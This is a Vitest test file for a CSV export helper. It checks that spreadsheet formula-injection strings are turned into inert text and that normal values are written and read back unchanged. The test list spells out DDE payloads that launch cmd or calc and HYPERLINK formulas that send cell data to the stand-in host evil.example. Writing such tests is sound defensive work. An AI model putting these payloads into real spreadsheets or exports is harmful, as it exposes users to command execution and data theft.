import { describe, expect, it } from 'vitest';
import { csvCell, csvRow, csvText, csvTextOf, isFormulaLike } from '../../src/shared/csv';

/**
 * Known spreadsheet-injection payloads (OWASP "CSV Injection" and the DDE/HYPERLINK
 * variants seen in the wild). Each must come out as inert text: a leading apostrophe.
 */
const PAYLOADS = [
  `-2+3+cmd|' /C calc'!A0`,
  `-1+HYPERLINK("http://evil.example/?x="&A1,"click")`,
  `=1+1`,
  `+1+1`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `=cmd|' /C notepad'!'A1'`,
  `=HYPERLINK("http://evil.example","x")`,
  `-cmd|' /C calc'!A0`,
  `-5`,
  `-.5+A1`,
  `  =1+1`,
  ` -2+3`,
  `   @SUM(A1:A9)`,
  `\t=1+1`,
  `\r=1+1`,
  `\n=1+1`,
  `\tplain`,
  `\u00a0=1+1`,
  `\u3000+1`,
  `＝1+1`,
  `＋1`,
  `－1`,
  `＠SUM(A1)`,
];

const SAFE = ['D0001', 'usmf', 'POS transaction', 'a=b', 'R-100', '1+1', 'x@y.z', '{"siteId":"1"}'];

describe('CSV spreadsheet safety', () => {
  it.each(PAYLOADS)('neutralises %j', (payload) => {
    expect(isFormulaLike(payload)).toBe(true);
    const cell = csvCell(payload);
    // Unquoted, or quoted because of a comma/quote/newline: either way the first character
    // the spreadsheet sees after the quoting is the apostrophe.
    const inner = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
    expect(inner).toBe(`'${payload}`);
  });

  it.each(SAFE)('leaves %j as it is', (text) => {
    expect(isFormulaLike(text)).toBe(false);
    expect(csvCell(text).replace(/^"|"$/g, '').replace(/""/g, '"')).toBe(text);
  });

  it('writes numbers as numbers, negative ones included, and blanks as empty', () => {
    expect(csvRow([-5, 0.25, -1e-7, null, undefined, Number.NaN])).toBe('-5,0.25,-1e-7,,,\r\n');
  });

  it('quotes cells holding commas, quotes and line breaks', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('=a,b')).toBe(`"'=a,b"`);
  });

  // Our own exports read back: an import removes the apostrophe only where the export added it.
  it.each([...PAYLOADS, ...SAFE, "'t Hof", "'=1+1", "''@iv", "'", "''", " '=x"])(
    'reads %j back exactly as it was',
    (text) => {
      expect(csvTextOf(csvText(text))).toBe(text);
    },
  );

  it('protects text that already starts with an apostrophe, so that it reads back unchanged', () => {
    expect(csvCell("'=1+1")).toBe("''=1+1");
    expect(csvCell("'t Hof")).toBe("''t Hof");
    expect(csvTextOf("'@iv")).toBe('@iv');
    // An apostrophe the export would not have added stays: the cell is read as typed.
    expect(csvTextOf("'t Hof")).toBe("'t Hof");
  });
});
